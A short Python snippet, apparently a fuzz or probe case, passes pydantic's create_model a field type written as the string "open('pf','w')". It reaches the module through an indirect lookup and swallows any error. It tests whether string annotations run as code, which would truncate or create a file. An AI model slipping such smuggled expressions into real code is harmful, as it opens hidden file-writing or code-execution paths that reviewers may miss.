import pydantic
try:
    dict(zip('a', [pydantic]))['a'].create_model('M', x=("open('pf','w')", None))
except Exception:
    pass
